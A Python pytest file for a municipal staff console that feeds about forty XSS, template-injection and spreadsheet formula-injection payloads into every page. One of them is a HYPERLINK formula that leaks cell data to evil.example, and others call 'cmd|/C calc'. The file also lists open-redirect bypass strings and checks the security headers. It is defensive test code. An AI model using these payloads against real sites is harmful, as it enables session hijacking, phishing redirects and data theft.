"""The console under attack: where sign-in may send the browser back to, the security headers on
every response, and hostile citizen and staff text on every page (shown as text, never run).
Real SQLite databases and Rasa's own tracker store. Errors and logs: test_console_errors.py."""

from __future__ import annotations

import re
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any, Dict, List, Tuple

import pytest
from markupsafe import escape

from tests.fakes.rasa import FakeRasaApi
from tests.trackers import BASE, bot, save, user
from tests.unit.test_console import (PASSWORD, Console, console, kb_database, make_console, rasa,  # noqa: F401
                                     routes)
from vecina import db
from vecina.db.models import Appointment
from vecina.services.tickets import NewTicket

# Hostile text a citizen (or a careless colleague) can put in front of staff. Each would set
# window.__xss or open an alert if it ever ran; each must be shown exactly as written.
PAYLOADS: List[str] = [
    "<script>window.__xss=1</script>",
    "<img src=x onerror=\"window.__xss=1\">",
    "<svg onload=\"window.__xss=1\">",
    "<svg><script>window.__xss=1</script></svg>",
    "\"><script>window.__xss=1</script>",
    "'><img src=x onerror=window.__xss=1>",
    "\" onmouseover=\"window.__xss=1\" x=\"",
    "' onfocus='window.__xss=1' autofocus='",
    "javascript:window.__xss=1",
    "<a href=\"javascript:window.__xss=1\">pulse aquí</a>",
    "<iframe src=\"javascript:window.__xss=1\"></iframe>",
    "<body onload=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<video><source onerror=\"window.__xss=1\"></video>",
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "<!--<script>window.__xss=1</script>-->",
    "<object data=\"data:text/html,<script>window.__xss=1</script>\"></object>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__xss=1\">",
    "<base href=\"javascript:/\">",
    "<form action=\"javascript:window.__xss=1\"><button>Enviar</button></form>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<template><script>window.__xss=1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=1>\">",
    "\"><img src=x onerror=alert(1)>",
    "{{7*7}}",
    "{{ config.items() }}{% for x in range(3) %}x{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",
    "\u202e<script>window.__xss=1</script>\u202d",
    "\u200b<img src=x onerror=window.__xss=1>\u200b",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Pulse aquí\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ALLOWED_TAGS = {"html", "head", "meta", "title", "link", "script", "body", "header", "strong", "nav", "a", "span",
                "form", "input", "button", "main", "h1", "p", "label", "select", "option", "table", "thead", "tbody",
                "tr", "th", "td", "section", "dl", "dt", "dd", "ol", "ul", "li", "time", "textarea", "div", "img"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background"}


class PageShape(HTMLParser):
    """What a browser would build from a page: tags, attributes and the text, entities decoded."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: List[Tuple[str, Dict[str, str]]] = []
        self.text: List[str] = []

    def handle_starttag(self, tag: str, attrs: List[Tuple[str, Any]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_inert(page: str, where: str) -> None:
    """Only the console's own markup: no event handlers, no foreign tags, no script but ours."""
    shape = PageShape()
    shape.feed(page)
    for tag, attributes in shape.tags:
        assert tag in ALLOWED_TAGS, (where, tag, attributes)
        assert not [name for name in attributes if name.startswith("on")], (where, tag, attributes)
        if tag == "script":
            assert attributes.get("src", "").startswith("/static/"), (where, attributes)
        if tag == "meta":
            assert "http-equiv" not in attributes, (where, attributes)
        for name in URL_ATTRIBUTES & set(attributes):
            value = attributes[name].strip()
            assert value.startswith(("/", "?", "#", "https://www.openstreetmap.org/")), (where, tag, name, value)


def assert_shown_literally(page: str, payloads: List[str], where: str) -> None:
    for payload in payloads:
        assert str(escape(payload)) in page, (where, payload)


# --- 1. where signing in may send the browser back to -----------------------------------------

SAME_SITE = [
    ("/tickets/7", "/tickets/7"),
    ("/appointments?office=oac-ajuntament&day=2026-11-23", "/appointments?office=oac-ajuntament&day=2026-11-23"),
    ("/inbox?team=citizen-office", "/inbox?team=citizen-office"),
    ("/tickets/\t7", "/tickets/7"),  # what a browser would do with the tab: drop it
]
ELSEWHERE = [
    "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "/\\/evil.example",
    "https://evil.example/", "http:evil.example", "https:/evil.example", "HTTPS://evil.example",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "evil.example",
    "evil.example/inbox", "", "/\t/evil.example", "/\n/evil.example", "/\r/evil.example", "/\r\n/evil.example",
    "\t//evil.example", " //evil.example", "/ /evil.example", "/\x00/evil.example", "/\x0b/evil.example",
    "/\x0c/evil.example", "/\x1f/evil.example", "/\x7f/evil.example", "/\x85/evil.example",
    "/\x9b/evil.example", "/\u00a0/evil.example", "/\u2028/evil.example", "/\u3000/evil.example",
    "/\u200b/evil.example", "/\ufeff/evil.example", "/\uff0f/evil.example", "/\u2215evil.example",
    "/%2F/evil.example", "/%5Cevil.example", "/%09/evil.example", "/inbox\\..\\..\\evil", "@evil.example",
]


@pytest.fixture(scope="module")
def shared_console(tmp_path_factory: pytest.TempPathFactory, rasa: FakeRasaApi, kb_database: str) -> Console:
    """One console for tests that only sign in (successfully): nothing they do affects the next."""
    return make_console(tmp_path_factory.mktemp("console"), rasa, kb_database)


@pytest.mark.parametrize("target, expected", SAME_SITE + [(target, "/inbox") for target in ELSEWHERE])
def test_signing_in_returns_only_to_a_path_of_the_console(shared_console: Console, target: str,
                                                          expected: str) -> None:
    client = shared_console.client()
    page = client.get("/login", query_string={"next": target}).get_data(as_text=True)
    token = re.search(r'name="login_token" value="([^"]+)"', page).group(1)
    assert f'name="next" value="{escape(expected)}"' in page
    answer = client.post("/login", data={"login_token": token, "username": "ana", "password": PASSWORD,
                                         "next": target})
    assert answer.status_code == 302 and answer.headers["Location"] == expected, repr(answer.headers["Location"])


def test_the_tab_in_the_issue_s_example_does_not_make_it_a_host(shared_console: Console) -> None:
    client = shared_console.client()
    page = client.get("/login?next=/%09/evil.example").get_data(as_text=True)
    token = re.search(r'name="login_token" value="([^"]+)"', page).group(1)
    answer = client.post("/login?next=/%09/evil.example", data={"login_token": token, "username": "ana",
                                                                 "password": PASSWORD})
    assert answer.headers["Location"] == "/inbox"


# --- 4a. security headers on every response ------------------------------------------------------

def assert_security_headers(headers: Any, where: str) -> None:
    policy = headers.get("Content-Security-Policy", "")
    directives = {part.strip().split(" ", 1)[0]: part.strip() for part in policy.split(";") if part.strip()}
    assert "'unsafe-inline'" not in policy and "'unsafe-eval'" not in policy, (where, policy)
    if "sandbox" in directives:  # a citizen's file: nothing at all may run
        assert directives.get("default-src") == "default-src 'none'", (where, policy)
    else:
        assert directives.get("script-src") == "script-src 'self'", (where, policy)
        assert directives.get("object-src") == "object-src 'none'", (where, policy)
        assert directives.get("base-uri") == "base-uri 'none'", (where, policy)
    assert directives.get("frame-ancestors") == "frame-ancestors 'none'", (where, policy)
    assert headers.get("X-Frame-Options") == "DENY", where
    assert headers.get("X-Content-Type-Options") == "nosniff", where
    assert headers.get("Referrer-Policy") == "no-referrer", where


async def test_every_response_carries_the_security_headers(console: Console, monkeypatch: pytest.MonkeyPatch) -> None:
    console.media_dir.mkdir()
    (console.media_dir / "ab.jpg").write_bytes(b"\xff\xd8\xff photo")
    await save(console.tracker, "whatsapp:+34600000201", [
        user("/share_media", minute=1, metadata={"media": {"kind": "image", "mime_type": "image/jpeg",
                                                           "file": "ab.jpg"}})])
    ticket = console.ticket("whatsapp:+34600000201")
    anonymous = console.client()
    admin, csrf = console.sign_in("root")
    checked = 0
    for client in (anonymous, admin):
        for endpoint, method, url in routes(console.app):
            url = url.replace("/1/", f"/{ticket}/").replace("x.jpg", "ab.jpg")
            if endpoint == "logout":
                continue
            answer = client.open(url, method=method, data={"csrf_token": csrf, "text": "x", "client_key": "k"})
            assert_security_headers(answer.headers, f"{method} {url} {answer.status_code}")
            checked += 1
    for url, method in (("/nowhere", "GET"), ("/inbox", "DELETE"), ("/static/console.js", "GET")):
        answer = admin.open(url, method=method)
        assert_security_headers(answer.headers, f"{method} {url} {answer.status_code}")
    too_large = admin.post(f"/tickets/{ticket}/note", data={"csrf_token": csrf, "text": "x" * 100_000})
    assert too_large.status_code == 413
    assert_security_headers(too_large.headers, "413")
    monkeypatch.setattr(console.desk, "queue", lambda *_args, **_kwargs: 1 / 0)
    broken = admin.get("/inbox")
    assert broken.status_code == 500
    assert_security_headers(broken.headers, "500")
    assert checked >= 30


# --- 4b. hostile text everywhere it is shown ------------------------------------------------------

def seed_hostile_text(console: Console) -> Dict[str, Any]:
    """Every place citizen or staff text reaches a console page, filled with the payloads."""
    tickets = []
    for index, payload in enumerate(PAYLOADS):
        opened, _ = console.desk.tickets.open(NewTicket(
            f"whatsapp:+3460030{index:04d}", "whatsapp", "es", "citizen-office", payload, 2, procedure=payload,
            centre=payload, summary=[{"from": "citizen", "text": payload}]))
        tickets.append(opened.id)
    first = tickets[0]
    for index, payload in enumerate(PAYLOADS):
        console.desk.tickets.add_entry(first, "note", payload, "ana", f"note-{index}")
        console.desk.tickets.add_entry(first, "staff", payload, "ana", f"staff-{index}", delivery="failed")
        console.desk.tickets.audit("ana", "note", payload, {"text": payload})
    starts = console.clock.now - timedelta(minutes=30)
    with db.session_scope(console.desk.url) as session:
        for index, payload in enumerate(PAYLOADS):
            session.add(Appointment(office="oac-ajuntament", service=payload[:40], starts_at=starts,
                                    ends_at=starts + timedelta(minutes=15), desk=index + 1,
                                    conversation_id=f"whatsapp:+3460040{index:04d}", channel=payload[:20],
                                    language=payload[:5], phone="+34600400000", status="booked",
                                    created_at=starts, updated_at=starts))
    return {"tickets": tickets, "first": first}


def hostile_turns(index: int, payload: str) -> List[Tuple[str, Dict[str, Any]]]:
    """(kind, arguments) of the turns that carry `payload`: a message, a bot message with a button,
    the button pressed, a staff reply signed with it, a file of that kind, a refused file."""
    return [("user", {"text": payload}),
            ("bot", {"text": payload, "buttons": [{"title": payload, "payload": f"/choice{index}"}]}),
            ("user", {"text": f"/choice{index}"}),
            ("bot", {"text": payload, "response": "utter_staff_reply", "staff": payload, "team": "Oficina"}),
            ("user", {"text": "", "metadata": {"media": {"kind": payload, "mime_type": "application/pdf",
                                                         "file": f"f{index}.pdf"}}}),
            ("user", {"text": "", "metadata": {"media": {"kind": "image", "rejected": payload}}})]


def hostile_events(minute_of: Any) -> List[Any]:
    events = []
    for index, payload in enumerate(PAYLOADS):
        for step, (kind, arguments) in enumerate(hostile_turns(index, payload)):
            when = minute_of(index * 6 + step)
            events.append(user(minute=when, **arguments) if kind == "user" else bot(minute=when, **arguments))
    return events


async def seed_hostile_transcripts(console: Console) -> None:
    await save(console.tracker, "whatsapp:+34600300000", hostile_events(lambda step: step + 1))
    two_hours_ago = (console.clock.now - BASE).total_seconds() / 60 - 120
    for index, payload in enumerate(PAYLOADS):
        await save(console.tracker, f"telegram:30{index}", [
            user(payload, "nlu_fallback", minute=two_hours_ago),
            bot("No le he entendido.", response="utter_did_not_understand", minute=two_hours_ago)])


async def test_hostile_text_is_shown_as_text_on_every_page(console: Console) -> None:
    seeded = seed_hostile_text(console)
    await seed_hostile_transcripts(console)
    console.desk.staff.add("mala", PAYLOADS[0], "agent", PASSWORD, ["citizen-office"])
    admin, _ = console.sign_in("root")
    pages = {"inbox": "/inbox", "ticket": f"/tickets/{seeded['first']}", "unattended": "/unattended",
             "appointments": "/appointments?office=oac-ajuntament", "audit": "/audit"}
    pages.update({f"ticket {t}": f"/tickets/{t}" for t in seeded["tickets"][1:]})
    shown: Dict[str, str] = {}
    for name, url in pages.items():
        answer = admin.get(url)
        assert answer.status_code == 200, (name, answer.status_code)
        shown[name] = answer.get_data(as_text=True)
        assert_inert(shown[name], name)
    for name in ("inbox", "ticket", "unattended", "audit"):
        assert_shown_literally(shown[name], PAYLOADS, name)
    assert_shown_literally(shown["appointments"], [p[:40] for p in PAYLOADS], "appointments")
    for index, ticket in enumerate(seeded["tickets"][1:], start=1):
        assert str(escape(PAYLOADS[index])) in shown[f"ticket {ticket}"]
    colleague = admin.get(f"/tickets/{seeded['first']}").get_data(as_text=True)
    assert str(escape(PAYLOADS[0])) in colleague  # a staff display name in the assign list

    updates = admin.get(f"/tickets/{seeded['first']}/updates").get_json()
    assert {n["text"] for n in updates["notes"]} == set(PAYLOADS)
    assert [t["reason"] for t in admin.get("/inbox.json").get_json()["tickets"]] == PAYLOADS


@pytest.mark.parametrize("page", ["/tickets/{ticket}", "/unattended", "/appointments", "/inbox"])
@pytest.mark.parametrize("done", ["Su sesión ha caducado: llame al 900 000 000", PAYLOADS[0]])
def test_a_page_shows_only_the_console_s_own_notices(console: Console, page: str, done: str) -> None:
    ticket = console.ticket("whatsapp:+34600000202")
    admin, _ = console.sign_in("root")
    shown = admin.get(page.format(ticket=ticket), query_string={"done": done, "marked": "7"}).get_data(as_text=True)
    assert "900 000 000" not in shown and "__xss" not in shown
